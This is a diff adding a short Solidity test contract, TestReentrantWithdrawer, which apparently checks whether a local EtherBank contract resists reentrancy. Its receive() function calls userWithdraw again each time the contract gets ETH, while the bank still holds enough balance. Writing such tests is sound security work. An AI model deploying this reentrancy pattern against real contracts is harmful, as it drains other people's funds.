@@ -0,0 +1,29 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+import "./1_EtherBank.sol";
+
+// 测试用：在收到 ETH 时再次调用 userWithdraw，尝试重入
+contract TestReentrantWithdrawer {
+    EtherBank public bank;
+    uint256 public attackAmount;
+
+    constructor(address payable bankAddress) {
+        bank = EtherBank(bankAddress);
+    }
+
+    function deposit() external payable {
+        bank.deposit{value: msg.value}();
+    }
+
+    function attack(uint256 amount) external {
+        attackAmount = amount;
+        bank.userWithdraw(amount);
+    }
+
+    receive() external payable {
+        if (address(bank).balance >= attackAmount) {
+            bank.userWithdraw(attackAmount);
+        }
+    }
+}